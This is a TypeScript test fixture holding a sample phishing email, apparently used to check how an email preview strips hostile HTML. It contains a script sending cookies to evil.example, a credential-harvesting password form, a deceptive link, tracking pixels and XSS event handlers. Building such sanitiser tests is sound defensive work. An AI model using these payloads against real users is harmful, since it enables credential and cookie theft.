import type { Example } from "./index.ts";

export const example: Example = {
  from: "Account Security <security@your-bank.example>",
  to: "victim@example.org",
  subject: "Unusual sign-in to your account",
  html: `<!DOCTYPE html>
<html>
<head>
  <meta http-equiv="refresh" content="5;url=https://evil.example/landing">
  <base href="https://evil.example/">
  <script>document.title = "owned"; fetch("https://evil.example/steal?" + document.cookie)</script>
  <link rel="stylesheet" href="https://evil.example/style.css">
  <style>
    @import url(https://evil.example/import.css);
    body { font: 16px/1.6 Arial, sans-serif; color: #222; margin: 32px; background: url(https://evil.example/opened.gif) }
    .box { border: 1px solid #ccc; border-radius: 8px; padding: 20px; max-width: 420px }
  </style>
</head>
<body onload="alert('loaded')">
  <h2>We noticed an unusual sign-in</h2>
  <p onclick="alert('clicked')">Please confirm that it was you. This mail tries everything that hostile mail does;
    the preview shows what is left of it.</p>
  <div class="box">
    <form action="https://evil.example/login" method="post">
      <label>Password <input type="password" name="password"></label>
      <button>Confirm</button>
    </form>
  </div>
  <p>Or go to <a href="https://evil.example/login">https://www.your-bank.example/login</a>,
    or <a href="javascript:alert('link')">click here</a>.</p>
  <img src="https://evil.example/pixel.gif?user=victim" width="1" height="1" alt="">
  <img src="x" onerror="alert('image')" alt="broken">
  <svg width="40" height="40"><script>alert("svg")</script><circle cx="20" cy="20" r="18" onmouseover="alert('svg')"/></svg>
  <iframe src="https://evil.example/frame"></iframe>
  <object data="https://evil.example/object.swf"></object>
  <div style="position: fixed; inset: 0; z-index: 99999; pointer-events: none; background: url('https://evil.example/cover.png')"></div>
</body>
</html>
`,
};
